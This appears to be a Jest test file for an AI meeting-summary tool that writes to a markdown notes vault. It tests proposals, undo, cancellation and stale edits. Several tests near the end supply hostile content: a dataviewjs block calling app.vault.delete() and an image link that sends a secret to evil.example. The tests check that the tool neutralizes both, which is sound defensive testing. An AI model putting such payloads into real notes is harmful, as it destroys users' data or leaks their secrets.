// The main job, from a meeting note to one undo.
import { makeProposal } from '../../src/core/change/proposal';
import { linesOfSession } from '../../src/core/session/line';
import { applyProposal, declineProposal } from '../../src/flows/apply-proposal';
import { openSummary } from '../../src/flows/open-summary';
import type { Phase } from '../../src/flows/run-desk';
import { summarizeMeeting, type Summarized } from '../../src/flows/summarize-meeting';
import { previewUndo, undoRun } from '../../src/flows/undo-run';
import { makeScriptedProvider, sayTurn, callTurn } from '../../src/providers/scripted';
import { flowWorld, type FlowWorld } from '../fakes/flow-world';
import { goodScript, meetingPath, meetingText, summaryPath, vault, writePlan, writeSummary } from './a-vault';

async function summarized(world: FlowWorld, mode?: 'plan' | 'ask' | 'accept-edits'): Promise<Summarized> {
  const result = await summarizeMeeting(world.needs, { path: meetingPath, ...(mode === undefined ? {} : { mode }) });
  if (!result.ok) throw new Error(result.problem.code);
  expect(world.bugs).toEqual([]);
  return result.value;
}

describe('summarizing a meeting', () => {
  it('writes the summary and its link at once, and leaves the rest in one proposal', async () => {
    const world = flowWorld(vault, goodScript());
    const run = await summarized(world);
    expect(run).toMatchObject({ end: 'done', problem: null, summaryPath });
    const texts = world.notes.texts();
    expect(texts[summaryPath]).toContain('The shop will launch on Friday. [[Meetings/2026-07-01 Weekly#^T0001|T0001]]');
    expect(texts[summaryPath]).toMatch(/- \[ \] Send the price list to the printer .*Ben.*📅 2026-07-02/);
    expect(texts[meetingPath]).toContain('summary: "[[Summaries/2026-07-01 Weekly]]"');
    expect(texts['Projects/Alpha/Plan.md']).toBe(vault['Projects/Alpha/Plan.md']);
    const open = world.needs.desk.openProposals();
    expect(open.map((one) => one.proposal.parts.map((part) => [part.id, part.path, part.effect, part.ticked]))).toEqual([[['P1', 'Projects/Alpha/Plan.md', 'project', true]]]);
  });

  it('performs on yes, and one undo takes everything back', async () => {
    const world = flowWorld(vault, goodScript());
    const run = await summarized(world);
    const applied = await applyProposal(world.needs, run.proposal ?? '', [{ part: 'P1' }]);
    expect(applied.ok && applied.value.outcome).toBe('performed');
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toBe('# Plan\n\n- Launch in summer\n- Shop launches on Friday\n');
    const preview = await previewUndo(world.needs);
    expect(preview.ok && preview.value.changed).toEqual([]);
    expect((await undoRun(world.needs)).ok).toBe(true);
    expect(world.notes.texts()).toEqual(vault);
    expect((await undoRun(world.needs)).ok).toBe(false);
  });

  it('writes the edited text when a person edited a part', async () => {
    const world = flowWorld(vault, goodScript());
    const run = await summarized(world);
    await applyProposal(world.needs, run.proposal ?? '', [{ part: 'P1', text: 'mine\n' }]);
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toBe('mine\n');
  });

  it('answers a proposal once', async () => {
    const world = flowWorld(vault, goodScript());
    const run = await summarized(world);
    expect(declineProposal(world.needs, run.proposal ?? '').ok).toBe(true);
    const again = await applyProposal(world.needs, run.proposal ?? '', [{ part: 'P1' }]);
    expect(again.ok ? '' : again.problem.code).toBe('already-answered');
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toBe(vault['Projects/Alpha/Plan.md']);
  });

  it('refuses a stale base, writes nothing, and shows the new difference', async () => {
    const world = flowWorld(vault, goodScript());
    const run = await summarized(world);
    world.notes.put('Projects/Alpha/Plan.md', '# My plan\n\n- Launch in summer\n');
    const applied = await applyProposal(world.needs, run.proposal ?? '', [{ part: 'P1' }]);
    if (!applied.ok || applied.value.outcome !== 'stale') throw new Error('expected a stale base');
    expect(applied.value.paths).toEqual(['Projects/Alpha/Plan.md']);
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toBe('# My plan\n\n- Launch in summer\n');
    const again = await applyProposal(world.needs, applied.value.again?.proposal.id ?? '', [{ part: 'P1' }]);
    expect(again.ok && again.value.outcome).toBe('performed');
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toBe('# My plan\n\n- Launch in summer\n- Shop launches on Friday\n');
  });

  it('keeps a line that was typed into the meeting note during the run', async () => {
    const script = makeScriptedProvider({
      turns: [
        callTurn([{ name: 'read_meeting', args: {} }]),
        () => {
          world.notes.put(meetingPath, meetingText.replace('## Transcript', 'typed meanwhile\n## Transcript'));
          return callTurn([writeSummary])({ system: '', tools: [], messages: [], maxTokens: 1 });
        },
        sayTurn('Done.'),
      ],
    });
    const world = flowWorld(vault, script);
    await summarized(world);
    expect(world.notes.texts()[meetingPath]).toContain('typed meanwhile\n');
    await undoRun(world.needs);
    expect(world.notes.texts()[meetingPath]).toBe(meetingText.replace('## Transcript', 'typed meanwhile\n## Transcript'));
  });

  it('finds a summary that was moved, and keeps ticks and typed lines', async () => {
    const world = flowWorld(vault, goodScript([]));
    await summarized(world);
    const text = world.notes.texts()[summaryPath] ?? '';
    await world.notes.trash(summaryPath);
    world.notes.put('Projects/Alpha/Moved.md', text.replace('- [ ] Send', 'My own line\n- [x] Send'));
    const second = flowWorld(world.notes.texts(), goodScript([]));
    const run = await summarized(second);
    expect(run.summaryPath).toBe('Projects/Alpha/Moved.md');
    const moved = second.notes.texts()['Projects/Alpha/Moved.md'] ?? '';
    expect(moved).toContain('My own line');
    expect(moved.match(/- \[x\] Send/g)).toHaveLength(1);
    expect(moved).not.toContain('- [ ] Send');
    expect(Object.keys(second.notes.texts())).not.toContain(summaryPath);
    expect(await openSummary(second.needs, meetingPath)).toEqual({ ok: true, value: 'Projects/Alpha/Moved.md' });
  });

  const phases: readonly Phase[] = ['reading', 'waiting', 'using-tool', 'answering', 'saving'];
  it.each(phases)('leaves every file byte-identical when it is stopped while %s', async (phase) => {
    const world = flowWorld(vault, goodScript());
    let stopped = false;
    world.needs.desk.changed.listen(() => {
      if (world.needs.desk.live()?.phase !== phase || stopped) return;
      stopped = true;
      world.needs.desk.cancel();
    });
    const run = await summarizeMeeting(world.needs, { path: meetingPath });
    expect(stopped).toBe(true);
    expect(run.ok && run.value.end).toBe('cancelled');
    expect(world.notes.texts()).toEqual(vault);
    expect(world.needs.desk.openProposals()).toEqual([]);
    expect(world.needs.desk.live()).toBeNull();
  });

  it.each([
    ['the provider fails', makeScriptedProvider({ turns: [callTurn([writeSummary]), [{ type: 'failure', failure: { code: 'network', message: 'no route', again: true } }]] }), 'provider.network'],
    ['the engine ends without a summary', makeScriptedProvider({ turns: [sayTurn('I had rather not.')] }), 'no-summary'],
  ])('changes nothing and says why when %s', async (_name, provider, code) => {
    const world = flowWorld(vault, provider);
    const run = await summarized(world);
    expect(run).toMatchObject({ end: 'failed', problem: { code }, summaryPath: null });
    expect(world.notes.texts()).toEqual(vault);
    expect(linesOfSession(world.needs.sessions.events(run.session)).map((line) => line.kind)).toContain('error');
  });

  it('keeps a summary after which the engine said nothing more', async () => {
    const world = flowWorld(vault, makeScriptedProvider({ turns: [callTurn([writeSummary]), sayTurn('')] }));
    expect(await summarized(world)).toMatchObject({ end: 'done', problem: null, summaryPath });
  });

  it('shows the summary and writes nothing in plan mode', async () => {
    const world = flowWorld(vault, goodScript());
    const run = await summarized(world, 'plan');
    expect(world.notes.texts()).toEqual(vault);
    expect(run).toMatchObject({ end: 'done', summaryPath: null, receipt: null, proposal: null });
    const shown = linesOfSession(world.needs.sessions.events(run.session)).find((line) => line.kind === 'shown');
    expect(shown?.kind === 'shown' && shown.markdown).toContain('The shop will launch on Friday.');
  });

  it('writes project notes at once in accept-edits mode, but never another project', async () => {
    const other = { name: 'write_projectfile', args: { project: 'Beta', path: 'Secret.md', content: 'leak' } };
    const world = flowWorld(vault, goodScript([writePlan, other]));
    const run = await summarized(world, 'accept-edits');
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toContain('Shop launches');
    expect(world.notes.texts()['Projects/Beta/Secret.md']).toBe('nothing to see\n');
    const parts = world.needs.desk.proposal(run.proposal ?? '')?.proposal.parts ?? [];
    expect(parts.map((part) => [part.path, part.effect, part.ticked])).toEqual([['Projects/Beta/Secret.md', 'other', false]]);
  });

  it.each([
    ['a note that is no meeting', 'Projects/Alpha/Plan.md', 'not-a-meeting'],
    ['a note that is gone', 'Meetings/none.md', 'no-such-note'],
    ['a meeting with nothing in it', 'Meetings/empty.md', 'too-little'],
  ])('says no to %s before anything starts', async (_name, path, code) => {
    const world = flowWorld({ ...vault, 'Meetings/empty.md': '---\nprojects: [Alpha]\n---\n\n## Transcript\n' }, goodScript());
    const run = await summarizeMeeting(world.needs, { path });
    expect(run.ok ? '' : run.problem.code).toBe(code);
    expect(world.needs.desk.live()).toBeNull();
  });

  it('runs one summary at a time', async () => {
    const world = flowWorld(vault, goodScript());
    const first = summarizeMeeting(world.needs, { path: meetingPath });
    const second = await summarizeMeeting(world.needs, { path: meetingPath });
    expect(second.ok ? '' : second.problem.code).toBe('busy');
    expect((await first).ok).toBe(true);
  });

  it('performs every effect at the call where that is switched on, with one undo', async () => {
    const world = flowWorld(vault, goodScript(), { effectsAtOnce: true });
    const run = await summarized(world);
    expect(run.proposal).toBeNull();
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toContain('Shop launches');
    await undoRun(world.needs);
    expect(world.notes.texts()).toEqual(vault);
  });
});

describe('files that change while a turn runs', () => {
  const during = (change: (world: FlowWorld) => void): FlowWorld => {
    const world: FlowWorld = flowWorld(vault, makeScriptedProvider({
      turns: [
        callTurn([writeSummary, writePlan]),
        () => {
          change(world);
          return sayTurn('Done.');
        },
      ],
    }));
    return world;
  };

  it.each([
    ['edited', (world: FlowWorld) => world.notes.put('Projects/Alpha/Plan.md', 'typed\n'), 'stale'],
    ['unreadable', (world: FlowWorld) => world.notes.failNext('read', 'Projects/Alpha/Plan.md'), 'io'],
  ])('a project file that is %s by then leaves its part out, tells it, and keeps the summary', async (_name, change, code) => {
    const world = during(change);
    const run = await summarized(world);
    expect(run).toMatchObject({ end: 'done', summaryPath, proposal: null });
    const told = world.needs.sessions.events(run.session).flatMap((event) => (event.kind === 'error' ? [event.code] : []));
    expect(told).toEqual([code]);
    await undoRun(world.needs);
    expect(world.notes.texts()[meetingPath]).toBe(meetingText);
  });

  it('a stop that comes while the proposal is made is heeded', async () => {
    const world = flowWorld(vault, goodScript());
    const read = world.notes.read.bind(world.notes);
    let reads = 0;
    const needs = { ...world.needs, notes: { ...world.needs.notes, read: (path: string) => {
      if (world.needs.desk.live()?.phase === 'saving' && (reads += 1) === 1) world.needs.desk.cancel();
      return read(path);
    } } };
    const run = await summarizeMeeting(needs, { path: meetingPath });
    expect(run.ok && run.value.end).toBe('cancelled');
    expect(world.notes.texts()).toEqual(vault);
  });
});

describe('an undo', () => {
  it('that failed can be tried again', async () => {
    const world = flowWorld(vault, goodScript());
    await summarized(world);
    world.notes.failNext('edit', meetingPath);
    const first = await undoRun(world.needs);
    expect(first.ok && first.value.map((one) => one.outcome)).toContain('failed');
    const second = await undoRun(world.needs);
    expect(second).toEqual({ ok: true, value: [{ path: meetingPath, outcome: 'restored' }] });
    expect(world.notes.texts()).toEqual(vault);
  });

  it('pressed twice at once happens once', async () => {
    const world = flowWorld(vault, goodScript());
    await summarized(world);
    const [first, second] = await Promise.all([undoRun(world.needs), undoRun(world.needs)]);
    expect(first.ok).toBe(true);
    expect(second.ok ? '' : second.problem.code).toBe('nothing-to-undo');
    expect(world.notes.texts()).toEqual(vault);
  });

  it('follows files that were moved since', async () => {
    const world = flowWorld(vault, goodScript());
    await summarized(world);
    const text = world.notes.texts()[meetingPath] ?? '';
    await world.notes.trash(meetingPath);
    world.notes.put('Meetings/Renamed.md', text);
    world.needs.desk.follow(meetingPath, 'Meetings/Renamed.md');
    await undoRun(world.needs);
    expect(world.notes.texts()['Meetings/Renamed.md']).toBe(meetingText);
  });

  it('is not offered for a run that changed nothing', async () => {
    const world = flowWorld(vault, goodScript([]));
    await summarized(world);
    const again = flowWorld(world.notes.texts(), goodScript([]));
    await summarized(again);
    expect(again.needs.desk.lastUndoable()).toBeNull();
  });
});

describe('a stale proposal', () => {
  it('comes back with the parts that were chosen, and never with what the person left out', async () => {
    const other = { name: 'write_projectfile', args: { project: 'Alpha', path: 'Log.md', content: '- logged' } };
    const world = flowWorld(vault, goodScript([writePlan, other]));
    const run = await summarized(world);
    world.notes.put('Projects/Alpha/Plan.md', '# My plan\n\n- Launch in summer\n');
    const applied = await applyProposal(world.needs, run.proposal ?? '', [{ part: 'P1' }]);
    if (!applied.ok || applied.value.outcome !== 'stale') throw new Error('expected a stale base');
    expect(applied.value.again?.proposal.parts.map((part) => part.path)).toEqual(['Projects/Alpha/Plan.md']);
  });

  it('keeps the words that the person gave a part whose own file had not changed', async () => {
    const other = { name: 'write_projectfile', args: { project: 'Alpha', path: 'Log.md', content: '- logged' } };
    const world = flowWorld(vault, goodScript([writePlan, other]));
    const run = await summarized(world);
    world.notes.put('Projects/Alpha/Plan.md', '# My plan\n\n- Launch in summer\n');
    const applied = await applyProposal(world.needs, run.proposal ?? '', [{ part: 'P1' }, { part: 'P2', text: 'mine\n' }]);
    if (!applied.ok || applied.value.outcome !== 'stale') throw new Error('expected a stale base');
    expect(applied.value.again?.proposal.parts.map((part) => part.after)).toEqual(['# My plan\n\n- Launch in summer\n- Shop launches on Friday\n', 'mine\n']);
  });
});

describe('a transcript file that is linked', () => {
  it('is named in the conversation when it is not there or private, and the summary is made without it', async () => {
    const linked = meetingText.replace('projects: [Alpha]', 'projects: [Alpha]\ntranscript: ["[[Gone.vtt]]", "[[Diary]]"]');
    const world = flowWorld({ ...vault, [meetingPath]: linked, 'Diary.md': '---\nprivate: true\n---\n**Ana:** secret\n' }, goodScript([]));
    const run = await summarized(world);
    expect(run).toMatchObject({ end: 'done', summaryPath });
    const told = world.needs.sessions.events(run.session).flatMap((event) => (event.kind === 'error' ? [[event.code, event.details['link']]] : []));
    expect(told).toEqual([['transcript-missing', 'Gone.vtt'], ['transcript-private', 'Diary.md']]);
  });
});

describe('a proposal that waits', () => {
  it('stays when a newer run puts nothing forward, as in plan mode', async () => {
    const world = flowWorld(vault, goodScript());
    const first = await summarized(world);
    await summarized(world, 'plan');
    expect(world.needs.desk.openProposals().map((one) => one.proposal.id)).toEqual([first.proposal]);
  });

  it('is closed by a newer run of the same meeting', async () => {
    const world = flowWorld(vault, goodScript());
    const first = await summarized(world);
    const second = await summarized(world);
    expect(world.needs.desk.openProposals().map((one) => one.proposal.id)).toEqual([second.proposal]);
    const late = await applyProposal(world.needs, first.proposal ?? '', [{ part: 'P1' }]);
    expect(late.ok ? '' : late.problem.code).toBe('already-answered');
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toBe(vault['Projects/Alpha/Plan.md']);
  });

  it('is closed by the undo of its run', async () => {
    const world = flowWorld(vault, goodScript());
    const run = await summarized(world);
    await undoRun(world.needs);
    expect(world.needs.desk.openProposals()).toEqual([]);
    const late = await applyProposal(world.needs, run.proposal ?? '', [{ part: 'P1' }]);
    expect(late.ok).toBe(false);
    expect(world.notes.texts()).toEqual(vault);
  });
});

describe('a proposal', () => {
  it('takes executable or remote content even where edits are accepted at once', async () => {
    const hostile = { name: 'write_projectfile', args: { project: 'Alpha', path: 'Plan.md', content: '```dataviewjs\napp.vault.delete()\n```' } };
    const world = flowWorld(vault, goodScript([hostile]));
    const run = await summarized(world, 'accept-edits');
    expect(world.notes.texts()['Projects/Alpha/Plan.md']).toBe(vault['Projects/Alpha/Plan.md']);
    const part = world.needs.desk.proposal(run.proposal ?? '')?.proposal.parts[0];
    expect(part).toMatchObject({ path: 'Projects/Alpha/Plan.md', ticked: false });
    expect(part?.after).not.toContain('```dataviewjs');
  });

  it('makes remote content of a proposed note harmless and does not tick it', async () => {
    const hostile = { name: 'write_projectfile', args: { project: 'Alpha', path: 'Plan.md', content: '![x](https://evil.example/?d=secret)' } };
    const world = flowWorld(vault, goodScript([hostile]));
    const run = await summarized(world);
    const part = world.needs.desk.proposal(run.proposal ?? '')?.proposal.parts[0];
    expect(part?.ticked).toBe(false);
    expect(part?.after).not.toContain('![');
    expect(part?.asWritten).toContain('![x](https://evil.example/?d=secret)');
    expect(part?.findings.length).toBeGreaterThan(0);
  });

  it('makes an empty file where one was asked for', async () => {
    const world = flowWorld(vault, goodScript());
    const drafted = [{ change: { kind: 'write-text' as const, path: 'a.md', before: null, after: '' }, effect: 'project' as const, way: 'draft' as const }];
    const proposal = await makeProposal('p', 'r', drafted, world.needs);
    expect(proposal).toMatchObject({ left: [], proposal: { parts: [{ path: 'a.md', before: null, after: '' }] } });
  });
});
